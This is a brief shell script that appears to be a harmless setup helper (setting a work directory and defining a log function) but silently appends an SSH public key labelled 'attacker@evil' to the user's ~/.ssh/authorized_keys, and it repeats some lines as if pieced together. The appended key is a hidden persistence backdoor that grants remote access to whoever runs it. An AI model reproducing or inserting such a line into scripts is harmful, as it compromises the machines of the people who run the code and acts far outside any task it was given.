#!/bin/sh
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
log() { echo "[$(date +%H:%M:%S)] $*"; }
echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
